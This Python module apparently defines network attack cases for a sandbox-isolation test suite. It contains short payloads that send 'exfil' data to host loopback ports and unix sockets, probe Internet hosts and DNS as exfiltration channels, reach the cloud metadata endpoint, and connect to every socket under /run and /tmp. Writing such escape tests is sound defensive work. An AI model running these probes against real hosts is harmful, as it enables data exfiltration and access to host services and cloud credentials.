"""External communication: the host's loopback, the Internet, DNS, unix sockets."""

from __future__ import annotations

from .model import NET, AttackCase

_LOCAL_INDEX_PIP = """\
import subprocess, sys
result = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-deps', '--no-cache-dir',
                         '--target', '/mnt/data/site', '--index-url',
                         'http://127.0.0.1:$tcp_port/simple', '--timeout', '3', '--retries', '0',
                         'airlock-attack-pkg'], capture_output=True, text=True, timeout=60)
print('pip exit', result.returncode, result.stderr[-300:])
"""

_INTERNET = """\
import socket
attempt('tcp to 1.1.1.1:80', lambda: socket.create_connection(('1.1.1.1', 80), timeout=3).close())
attempt('tcp to [2606:4700:4700::1111]:80',
        lambda: socket.create_connection(('2606:4700:4700::1111', 80), timeout=3).close())
"""

_RUN_SOCKETS = """\
import os, socket, stat
for top in ('/run', '/var/run', '/tmp', '/var/tmp', '/dev/shm'):
    for folder, _dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if not stat.S_ISSOCK(os.lstat(path).st_mode):
                    continue
            except OSError:
                continue
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                sock.connect(path)
                print('BREACH connected to host socket', path)
                sock.sendall(b'exfil')
            except OSError as exc:
                print('blocked', path, type(exc).__name__)
            finally:
                sock.close()
"""

CASES: tuple[AttackCase, ...] = (
    AttackCase(
        "tcp-host-loopback",
        NET,
        "send data to a TCP server on the host's loopback",
        "import socket\nattempt('tcp loopback', lambda: socket.create_connection("
        "('127.0.0.1', $tcp_port), timeout=3).sendall(b'exfil'))",
    ),
    AttackCase(
        "udp-host-loopback",
        NET,
        "send a UDP datagram to the host's loopback",
        "import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n    s.sendto(b'exfil', ('127.0.0.1', $udp_port))\nexcept OSError as e:\n"
        "    print('blocked', e)\ntime.sleep(0.3)",
    ),
    AttackCase("tcp-internet", NET, "connect to a host on the Internet", _INTERNET),
    AttackCase(
        "dns-lookup",
        NET,
        "resolve a name (DNS exfiltration channel)",
        "import socket\nattempt('resolve pypi.org', lambda: socket.getaddrinfo("
        "'airlock-exfil.pypi.org', 443))\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "attempt('udp to 8.8.8.8:53', lambda: s.sendto(b'\\0' * 12, ('8.8.8.8', 53)))",
    ),
    AttackCase(
        "cloud-metadata",
        NET,
        "reach the cloud metadata endpoint",
        "import socket\nattempt('169.254.169.254', lambda: socket.create_connection("
        "('169.254.169.254', 80), timeout=2).close())",
    ),
    AttackCase(
        "unix-socket-host",
        NET,
        "connect to a host service's pathname unix socket",
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "attempt('connect', lambda: s.connect('$unix_socket'))\n"
        "attempt('send', lambda: s.sendall(b'exfil'))",
    ),
    AttackCase(
        "unix-socket-abstract",
        NET,
        "connect to a host's abstract unix socket",
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "attempt('connect', lambda: s.connect('\\0$abstract_name'))\n"
        "attempt('send', lambda: s.sendall(b'exfil'))",
    ),
    AttackCase(
        "host-run-sockets", NET, "connect to every unix socket under /run, /tmp...", _RUN_SOCKETS
    ),
    AttackCase(
        "raw-packet-socket",
        NET,
        "open raw and packet sockets",
        "import socket\nattempt('AF_PACKET', lambda: socket.socket(socket.AF_PACKET, "
        "socket.SOCK_RAW))\nattempt('raw ICMP', lambda: socket.socket(socket.AF_INET, "
        "socket.SOCK_RAW, socket.IPPROTO_ICMP))",
    ),
    AttackCase(
        "pip-install",
        NET,
        "pip install a package from an index (on the host's loopback)",
        _LOCAL_INDEX_PIP,
        timeout=60,
    ),
)
